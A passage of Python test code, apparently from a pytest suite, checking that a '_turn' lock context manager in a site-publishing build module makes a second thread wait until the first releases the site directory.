    from ice287g.publish.build import _turn

    order: list[str] = []
    held, release = threading.Event(), threading.Event()

    def first() -> None:
        with _turn(tmp_path / "site"):
            order.append("first in")
            held.set()
            release.wait(5)
            order.append("first out")

    def second() -> None:
        with _turn(tmp_path / "site"):
            order.append("second in")

    one = threading.Thread(target=first)
    one.start()
    held.wait(5)
    two = threading.Thread(target=second)
    two.start()
    two.join(0.3)
    assert two.is_alive() and order == ["first in"]  # waiting its turn
    release.set()
    one.join(5)
    two.join(5)
    assert order == ["first in", "first out", "second in"]
